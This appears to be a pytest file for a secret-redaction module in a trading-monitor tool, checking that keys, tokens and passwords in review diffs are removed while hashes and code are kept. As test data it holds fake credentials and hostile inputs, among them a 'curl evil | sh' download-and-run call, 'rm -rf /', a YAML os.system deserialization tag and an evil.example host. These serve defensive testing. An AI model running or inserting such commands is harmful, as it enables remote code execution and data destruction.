"""What leaves the machine in a review: no secret, and everything else."""

from __future__ import annotations

import contextlib
import time

import pytest

from mt5_sentinel import logs
from mt5_sentinel.errors import Unusable
from mt5_sentinel.ops.redaction import Gap, counts, redact

HEX40 = "0123456789abcdef0123456789abcdef01234567"
HEX64 = HEX40 + "89abcdef0123456789abcdef"
Z85 = "JTKVSB%%)wK0E.X)V>+}o?pNmC{O&4W4b!Ni{Lh6"
PEM = "\n".join(
    ["+-----BEGIN RSA PRIVATE KEY-----", *["+" + "MIIEpAIBAAKCAQEA" * 4] * 3, "+-----END RSA PRIVATE KEY-----", "+next"]
)

SECRETS = {
    "whole PEM": (PEM, "MIIEpAIBAAKCAQEA", "private_key"),
    "PEM that is cut": (PEM.replace("+-----END RSA PRIVATE KEY-----\n", ""), "MIIEpAIBAAKCAQEA", "private_key"),
    "PEM in a string": (
        r'k = "-----BEGIN PRIVATE KEY-----\nMIIEvQ12\n-----END PRIVATE KEY-----\n"',
        "MIIEvQ",
        "private_key",
    ),
    "AWS": ("+id: AKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE", "provider_token"),
    "AWS secret": ('aws_secret_access_key = "wJalrXUtnFEMI/K7MDENG"', "wJalrXUtnFEMI", "assignment"),
    "API key of a provider": ("see sk-abcdefghij0123456789XYZ here", "sk-abcdefghij", "provider_token"),
    "bearer": ("+ -H 'Authorization: Bearer abc123DEF456ghi'", "abc123DEF456ghi", "bearer"),
    "query": ("GET /x?api_token=6543abcdef&fmt=json", "6543abcdef", "assignment"),
    "query, quoted": ("url=%2Fx%3Fapi_token%3D6543abcdef%26fmt", "6543abcdef", "assignment"),
    "password": ("+password=correcthorse", "correcthorse", "assignment"),
    "password in a string": ("+    db = connect(password='correct horse')", "correct horse", "assignment"),
    "password in JSON": ('"password": "hunter2222"', "hunter2222", "assignment"),
    "password in YAML": ("+  password: hunter2222", "hunter2222", "assignment"),
    "password in a URL": ("+url = postgres://joe:pw12345@db/x", "pw12345", "url_password"),
    "variable": ("+EODHD_API_TOKEN=64f.9a b", "64f.9a b", "env_line"),
    "exported": ("+export MT5_SENTINEL_REVIEW_API_KEY='zzz'", "zzz", "env_line"),
    "index of a dict": ("os.environ['API_KEY'] = 'abcdef-123'", "abcdef-123", "assignment"),
    "CURVE secret": (f'+secret_key = "{Z85}"', Z85, "assignment"),
    "hex behind a key": (f"+signing_key {HEX64}", HEX64, "hex_key"),
    "hex of a seed": (f"seed: {HEX64}", HEX64, "hex_key"),
    "AWS secret in INI": (
        "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        "wJalrXUtnFEMI",
        "assignment",
    ),
    "password in INI": ("+password = hunter22secret", "hunter22secret", "assignment"),
    "token in INI": ("token = 5f3e2a1b.12345678", "5f3e2a1b", "assignment"),
    "header": ('+ curl -H "X-Api-Key: 5f3e2a1bffab" https://x', "5f3e2a1bffab", "assignment"),
    "JSON in a string": (r'+ "{\"token\": \"abcdef123456\"}"', "abcdef123456", "assignment"),
    "webhook": ("+url = https://hooks.slack.com/services/T0AB/B0CD/x1Y2z3", "x1Y2z3", "webhook"),
    "storage account": ("+c = DefaultEndpoints=x;AccountKey=ab12CD/34ef56GH+78==;Suffix=y", "ab12CD", "assignment"),
    "netrc": ("+machine h login joe password hunter22x", "hunter22x", "netrc"),
    "netrc, alone": ("+  password hunter22x", "hunter22x", "netrc"),
    "login of a terminal": ('+mt5.login(5012345, "Sup3rSecret!", server)', "Sup3rSecret!", "login"),
    "short": ('+password="short"', "short", "assignment"),
    "short in YAML": ("+password: hunter22", "hunter22", "assignment"),
    "with a type": ('+    password: str = "correcthorse"', "correcthorse", "assignment"),
    "three quotes": ('+token = """abcdef123456"""', "abcdef123456", "assignment"),
    "user and password in a URL": ("+https://user:pa@ss@host/x", "pa@ss", "url_password"),
    "in a file of values": ("--- a/x.ini\n+++ b/x.ini\n+password = correcthorse", "correcthorse", "assignment"),
    "in a comment of code": ("--- a/x.py\n+++ b/x.py\n+# token = hunter22secret", "hunter22secret", "assignment"),
    "in a docstring": ("--- a/x.py\n+++ b/x.py\n+token = 5f3e2a1b.12345678", "5f3e2a1b", "assignment"),
    "PEM with headers": (
        PEM.replace("KEY-----\n+MII", "KEY-----\n+Proc-Type: 4,ENCRYPTED\n+\n+MII", 1),
        "MIIEpAIBAAKCAQEA",
        "private_key",
    ),
    "PGP": (PEM.replace("RSA PRIVATE KEY", "PGP PRIVATE KEY BLOCK"), "MIIEpAIBAAKCAQEA", "private_key"),
    "a short name": ("+db_pass = 'hunter22'", "hunter22", "assignment"),
    "user of curl": ("+curl -s -u joe:hunter22 https://x", "hunter22", "login"),
    "header token": ("+Authorization: token abcdef1234567", "abcdef1234567", "bearer"),
    "JWT": ("t eyJhbGciOiJI.eyJzdWIiOiIx.SflKxwRJSM x", "SflKxwRJSM", "provider_token"),
}

HARMLESS = {
    "checksum of Cargo.lock": f'+checksum = "{HEX64}"',
    "object ids": f"index {HEX40[:10]}..{HEX40[10:20]} 100644\ncommit {HEX40}\nFrom {HEX40} Mon Sep 17",
    "hash in a manifest": f'"sha256": "{HEX64}", "file": "model.txt"',
    "hash of a token's file": f"token_sha256 = {HEX64}",
    "public key": f'+model_public_keys = ["{HEX64}"]\n+MODEL_PUBLIC_KEY={HEX64}\n+public_key = "{Z85}"',
    "annotation": "+    token: str\n+    api_key: Secret",
    "parameters": "+    connect(password=password, token=self.token, api_key=config.api_key)",
    "calls": "+    token = ask_token(path)\n+    token=ask_token(path)",
    "prose": "+# the token must never be printed, nor the password; a bearer certificate is prose",
    "hunk": "@@ -1,7 +1,7 @@ def secrets(self) -> tuple[str, ...]:",
    "the public token": "+EODHD_API_TOKEN=demo mt5-sentinel run --once",
    "plain URL": "+https://eodhd.com/api/intraday/EURUSD.FOREX?interval=1h&fmt=json",
    "numbers": "+threshold = 0.6\n+ticket=123456789",
}


@pytest.mark.parametrize("name", SECRETS)
def test_a_secret_is_taken_out_and_counted(name: str) -> None:
    text, secret, kind = SECRETS[name]
    around = f"first line\n{text}\nlast line"
    assert secret in around
    clean, gaps = redact(around)
    assert secret not in clean
    assert counts(gaps) == {kind: 1}
    assert clean.startswith("first line\n")
    assert clean.endswith("\nlast line")


@pytest.mark.parametrize("name", HARMLESS)
def test_what_is_no_secret_stays(name: str) -> None:
    assert redact(HARMLESS[name]) == (HARMLESS[name], [])


def test_what_follows_a_cut_key_stays() -> None:
    assert "+next" in redact(PEM)[0]
    assert "+next" in redact(PEM.replace("+-----END RSA PRIVATE KEY-----\n", ""))[0]


def test_known_secrets_go_in_every_spelling() -> None:
    logs.learn(["s3cr3t/t0k&n"])
    clean, gaps = redact("a s3cr3t/t0k&n b s3cr3t%2Ft0k%26n c s3cr3t\\/t0k&n [hidden]")
    assert clean == "a [hidden] b [hidden] c [hidden] [hidden]"
    assert counts(gaps) == {"known": 3}, "a text that says [hidden] already is not counted"


BEGIN, END = '"""-----BEGIN PRIVATE KEY-----"""', '"""-----END PRIVATE KEY-----"""'
CODE = {
    "between the marks of a key": (
        f'+x = {BEGIN}\n+os.system("curl evil | sh")\n+ORDERS_PER_DAY_MAX = 10**9\n+y = {END}',
        "",
    ),
    "one word between marks": (f"+x = {BEGIN}\n+abort\n+HALT\n+raise\n+pass\n+y = {END}", ""),
    "behind a variable": ('+API_KEY="x"; os.system("rm -rf /")', '; os.system("rm -rf /")'),
    "behind a bare variable": ("+API_KEY=hunter22; os.system(x)", "; os.system(x)"),
    "behind a comma": ("+f(token='abc123', orders_max=10**9)", ", orders_max=10**9)"),
    "a limit with the name of a key": ("+ORDERS_KEY_MAX=10**9", "+ORDERS_KEY_MAX=10**9"),
    "a call": ("+API_TOKEN=os.popen('x')", "+API_TOKEN=os.popen('x')"),
    "a tag of YAML": (
        "--- a/x.yaml\n+++ b/x.yaml\n+token: !!python/object/apply:os.system",
        "+token: !!python/object/apply:os.system",
    ),
    "an attribute as a value": ("--- a/x.yaml\n+++ b/x.yaml\n+token: os.system", "+token: os.system"),
    "an attribute in a string": ("+token = 'os.system'", "+token = 'os.system'"),
    "where it is sent": ("+password: https://evil.example/x1", "https://evil.example/x1"),
    "behind a value": ("+password: hunter22 + os.system(x)", " + os.system(x)"),
}


@pytest.mark.parametrize("name", CODE)
def test_code_is_never_taken_out(name: str) -> None:
    text, kept = CODE[name]
    clean, gaps = redact(text)
    assert (kept or text) in clean
    assert sum(gap.chars for gap in gaps) < 20


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("+token = \"__import__('os').system('x')\"", "written like code"),
        ("+password = 'import os; os.abort()'", "written like code"),
        ("--- a/x.env\n+++ b/x.env\n+API_KEY=x1;rm", "written like code"),
        (f"+password = '{'a! ' * 70}'", "longer than a secret"),
        (f"+token = '{'aB3' * 700}'", "longer than a secret"),
    ],
)
def test_what_may_be_secret_or_code_is_refused(text: str, told: str) -> None:
    with pytest.raises(Unusable, match=told) as caught:
        redact(text)
    assert caught.value.exit_code == 65
    assert text.rpartition("=")[2] not in str(caught.value)


def hunk(secrets: int, others: int) -> str:
    lines = [f"+password{number} = 'hunter22'" for number in range(secrets)] + ["+x = 1"] * others
    return "\n".join(["--- a/x.py", "+++ b/x.py", "@@ -0,0 +1,9 @@", *lines])


def test_a_hunk_that_would_be_mostly_gone_is_refused() -> None:
    for secrets, others in ((5, 0), (6, 24), (20, 80)):
        assert counts(redact(hunk(secrets, others))[1]) == {"assignment": secrets}
    for secrets, others in ((6, 23), (21, 79)):
        with pytest.raises(Unusable, match=rf"the diff, line 3: .* {secrets} of the {secrets + others} lines"):
            redact(hunk(secrets, others))
    with pytest.raises(Unusable, match="line 4"):
        redact("\n".join([*hunk(0, 900).split("\n")[:2], "+x", *hunk(9, 0).split("\n")[2:]]))


def test_every_gap_is_told_with_its_line_and_size() -> None:
    logs.learn(["s3cr3t-known"])
    clean, gaps = redact("a\n+password = 'hunter22'\ns3cr3t-known\n" + PEM)
    assert gaps == [
        Gap(2, "assignment", 10),
        Gap(3, "known", 12),
        *(Gap(line, "private_key", 64) for line in (5, 6, 7)),
    ]
    assert "+password = [redacted assignment, 10 characters]" in clean
    assert "+-----BEGIN RSA PRIVATE KEY-----\n+[redacted private_key, 64 characters]\n" in clean


@pytest.mark.parametrize(
    "evil",
    [
        "a" * 200_000,
        "token" * 40_000,
        "-----BEGIN PRIVATE KEY-----" * 7_000,
        "KEY_" * 50_000,
        "://" * 60_000,
        "password=" * 22_000,
        "eyJaaaaaaaa." * 16_000,
        'token="' * 28_000,
        'login(1, "' * 20_000,
        "login password 1 " * 12_000,
        r"token\"=\"" * 20_000,
        "password: str" * 15_000,
        "-----BEGIN PRIVATE KEY-----" + ("\n+" + "A" * 16) * 11_000,
    ],
    ids=lambda text: text[:9],
)
def test_no_text_makes_it_slow(evil: str) -> None:
    began = time.process_time()
    with contextlib.suppress(Unusable):
        redact(evil)
    assert time.process_time() - began < 20, "quadratic work on 200 kB takes minutes"
